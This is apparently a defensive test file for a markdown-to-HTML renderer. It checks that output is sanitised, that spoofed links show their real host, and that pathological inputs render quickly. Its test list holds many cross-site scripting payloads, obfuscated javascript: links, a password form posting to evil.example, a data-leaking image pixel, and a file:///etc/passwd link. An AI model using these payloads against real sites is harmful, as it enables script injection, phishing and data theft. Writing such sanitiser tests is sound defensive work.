// @vitest-environment jsdom
import { expect, test } from 'vitest'
import { createMarkdownStream, markdownToHtml } from './markdown.ts'
import type { Source } from './types.ts'

const source: Source = {
  id: 's"1',
  title: 'Agreement <b>',
  publisher: 'P',
  date: '',
  url: '',
  location: 'p. 6',
  quote: 'Q.',
}
const page = (html: string) => {
  const root = document.createElement('div')
  root.innerHTML = html
  return root
}
const render = (markdown: string) => page(markdownToHtml(markdown, { sources: [source, source] }))

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<div x-data="{}" x-init="alert(1)" style="position:fixed">',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java\nscript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](vbscript:msgbox(1))',
  '[a](file:///etc/passwd)',
  '[a](//evil.example/x)',
  '[a](/settings?delete=all)',
  '[a](https://a.example" onmouseover="alert(1))',
  '<javascript:alert(1)>',
  '![a](https://evil.example/pixel.gif?q=secret)',
  '![a](javascript:alert(1))',
  '![a](x" onerror="alert(1))',
  '```"><script>alert(1)</script>\ncode </code></pre><script>alert(1)</script>\n```',
  '```js onload=alert(1)\n<img src=x onerror=alert(1)>',
  '`</code><script>alert(1)</script>`',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| <script>alert(1)</script> |',
  '# <script>alert(1)</script>',
  '> <img src="https://evil.example/x">',
  '- [x] <script>alert(1)</script>',
  '[1]: javascript:alert(1)\n\nA sentence.[1]',
  '[a][b]\n\n[b]: javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202Egpj.exe',
  'a\0b<scr\0ipt>',
]
const tags = new Set(
  'A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H3 H4 H5 H6 HR LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL'.split(
    ' ',
  ),
)
const isSafe = (root: Element) => {
  const wrong: string[] = []
  for (const element of root.querySelectorAll('*')) {
    if (!tags.has(element.tagName)) wrong.push(element.tagName)
    for (const { name, value } of element.attributes)
      if (!attribute.test(name) || (name === 'href' && !/^(?:https?:\/\/|mailto:)/.test(value)))
        wrong.push(`${name}=${value}`)
    if (element.tagName === 'A' && element.getAttribute('rel') !== 'noopener noreferrer nofollow') wrong.push('rel')
  }
  expect(wrong).toEqual([])
}
const attribute = /^(?:href|rel|target|type|role|scope|start|tabindex|aria-[a-z]+|data-[a-z-]+)$/

test.each(hostile)('%j', (markdown) => isSafe(render(markdown)))

test.each(hostile)('%j, also in pieces of three characters', (markdown) => {
  const stream = createMarkdownStream({ sources: [source] })
  for (let at = 0; at < markdown.length; at += 3) {
    stream.push(markdown.slice(at, at + 3))
    for (const { html } of stream.blocks()) isSafe(page(html))
  }
})

test('all of it at once is shown as text', () => {
  const root = render(hostile.filter((line) => !line.startsWith('`')).join('\n\n'))
  isSafe(root)
  expect(root.textContent).toContain('<script>alert(1)</script>')
})

test('a picture is a link that says where it leads', () => {
  expect(render('![Chart](https://evil.example/a.png)').innerHTML).toContain('Image: Chart</a> (evil.example)')
  expect(render('![Chart](https://evil.example/a.png)').querySelector('img')).toBeNull()
})

test('a link that pretends to lead elsewhere shows its host', () => {
  expect(render('[https://bank.example](https://evil.example)').textContent).toBe('https://bank.example (evil.example)')
  expect(render('[bank.example](https://evil.example)').textContent).toBe('bank.example (evil.example)')
  expect(render('[a](https://bank.example@evil.example)').textContent).toBe('a (evil.example)')
  expect(render('[www.bank.example](https://bank.example/in)').textContent).toBe('www.bank.example')
  expect(render('[the rates](https://bank.example/in)').textContent).toBe('the rates')
})

test('a link is no source, whatever its words', () => {
  expect(render('[1](https://evil.example)').querySelector('[data-mark]')).toBeNull()
})

test.each([
  ['quotations', '> '.repeat(20_000) + 'x'],
  ['lists on one line', '- '.repeat(20_000) + 'x'],
  ['numbers on one line', '1. '.repeat(20_000) + 'x'],
  ['lists by indentation', Array.from({ length: 600 }, (_, at) => `${' '.repeat(at * 2)}- x`).join('\n')],
  ['quotations line by line', Array.from({ length: 600 }, (_, at) => `${'>'.repeat(at)} x`).join('\n')],
  ['stars', '*'.repeat(60_000)],
  ['stars and letters', 'a**b'.repeat(20_000)],
  ['emphasis in emphasis', '*a **b '.repeat(8_000)],
  ['brackets', '['.repeat(60_000)],
  ['brackets and parentheses', '[a]('.repeat(20_000)],
  ['images', '![['.repeat(20_000)],
  ['backticks', '`'.repeat(60_000)],
  ['backticks of all lengths', Array.from({ length: 300 }, (_, at) => '`'.repeat(at)).join(' ')],
  ['angle brackets', '<'.repeat(60_000)],
  ['backslashes', '\\'.repeat(60_000)],
  ['underscores', '_a'.repeat(30_000)],
  ['tildes', '~~a'.repeat(20_000)],
  ['a table of 50 by 1,000', `|${' a |'.repeat(50)}\n|${' - |'.repeat(50)}\n${`|${' b |'.repeat(50)}\n`.repeat(1000)}`],
  ['pipes', '|'.repeat(60_000)],
  ['blank lines', '\n'.repeat(100_000)],
  ['one long word', 'a'.repeat(300_000)],
  ['references', 'A.[1]'.repeat(20_000)],
  ['ends of sentences', '. '.repeat(50_000)],
  ['mails', 'a@'.repeat(40_000)],
  ['addresses', 'http://a.'.repeat(10_000)],
])('%s without end take less than two seconds', { timeout: 20_000 }, (_, markdown) => {
  const began = process.cpuUsage()
  const html = markdownToHtml(markdown, { sources: [source] })
  const stream = createMarkdownStream()
  stream.push(markdown.slice(0, 30_000))
  stream.blocks()
  // The processor's time, not the clock's: a busy machine is no fault of an answer.
  const took = process.cpuUsage(began).user / 1000
  isSafe(page(html))
  expect(took).toBeLessThan(2000)
})

test('of a huge table the first 200 rows are shown, and how many are not', () => {
  const root = render(`| a |\n| - |\n${'| b |\n'.repeat(1_234)}`)
  expect(root.querySelectorAll('tbody tr')).toHaveLength(200)
  expect(root.textContent).toContain('1,034 more rows are not shown here.')
})

test('code keeps its indentation and its quotation marks, however deep', () => {
  const code = `${' '.repeat(80)}> > > > > > > > > > > "x" & <y>`
  expect(render(`\`\`\`\n${code}\n\`\`\``).querySelector('code')?.textContent).toBe(code)
})
